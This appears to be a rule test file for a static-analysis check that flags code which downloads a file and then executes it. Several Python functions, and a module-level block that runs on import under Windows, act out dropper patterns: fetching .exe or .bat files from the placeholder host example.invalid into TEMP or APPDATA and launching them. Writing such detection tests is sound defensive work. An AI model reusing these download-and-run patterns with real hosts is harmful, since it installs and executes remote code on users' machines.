# Test for download-write-execute (defanged: example.invalid, nothing is fetched).
import os
import subprocess
import tempfile
import urllib.request

import requests


def drop_a():
    path = os.path.join(tempfile.gettempdir(), "update.exe")
    urllib.request.urlretrieve("https://example.invalid/u.exe", path)
    # ruleid: download-write-execute
    os.startfile(path)


def drop_b():
    r = requests.get("https://example.invalid/s.bat")
    target = os.getenv("APPDATA", "") + "\\s.bat"
    with open(target, "wb") as f:
        f.write(r.content)
    # ruleid: download-write-execute
    subprocess.Popen(target, shell=True)


def fetch_data():
    path = "data.csv"
    urllib.request.urlretrieve("https://example.invalid/data.csv", path)
    # ok: download-write-execute
    print(open(path).read())


def save_model():
    r = requests.get("https://example.invalid/model.bin")
    with open("model.bin", "wb") as f:
        f.write(r.content)
    # ok: download-write-execute
    subprocess.run(["sha256sum", "other.bin"])


def drop_nested(url):
    # the write sits in an if-block, the run in a later sibling try-block
    exe = os.path.join(os.getenv("APPDATA", ""), "helper", "python-x.exe")
    response = requests.get(url)
    if response.status_code == 200:
        with open(exe, "wb") as f:
            f.write(response.content)
    else:
        return
    try:
        # ruleid: download-write-execute
        subprocess.run([str(exe)], check=True)
    except subprocess.CalledProcessError:
        pass


def drop_two_managers(target):
    # urlopen and open in one with-statement, inside a try; the run in a later try
    try:
        with urllib.request.urlopen("https://example.invalid/svc.exe") as resp, open(target, "wb") as out:
            out.write(resp.read())
    except OSError:
        return
    for _ in range(2):
        pass
    try:
        # ruleid: download-write-execute
        subprocess.Popen([str(target)], shell=False)
    except OSError:
        pass


def drop_streamed(path):
    with requests.get("https://example.invalid/tool", stream=True) as r:
        if r.ok:
            with open(path, "wb") as f:
                for chunk in r.iter_content(8192):
                    f.write(chunk)
    # ruleid: download-write-execute
    os.system(path)


def fetch_then_run_other(path):
    # downloads into one file, runs a different, packaged program
    r = requests.get("https://example.invalid/data.json")
    if r.ok:
        with open(path, "wb") as f:
            f.write(r.content)
    try:
        # ok: download-write-execute
        subprocess.run(["git", "status"], check=True)
    except subprocess.CalledProcessError:
        pass


def run_then_download(path):
    # the program runs before anything is downloaded to its path
    # ok: download-write-execute
    subprocess.run([path, "--version"])
    if os.path.exists(path):
        r = requests.get("https://example.invalid/notes.txt")
        with open(path + ".txt", "wb") as f:
            f.write(r.content)


if os.name == "nt":
    try:
        _exe = os.path.join(os.getenv("TEMP", ""), "rt.exe")
        _r = requests.get("https://example.invalid/rt.exe")
        if _r.ok:
            with open(_exe, "wb") as _f:
                _f.write(_r.content)
        # ruleid: download-write-execute
        subprocess.Popen([_exe], shell=True)
    except Exception:
        pass
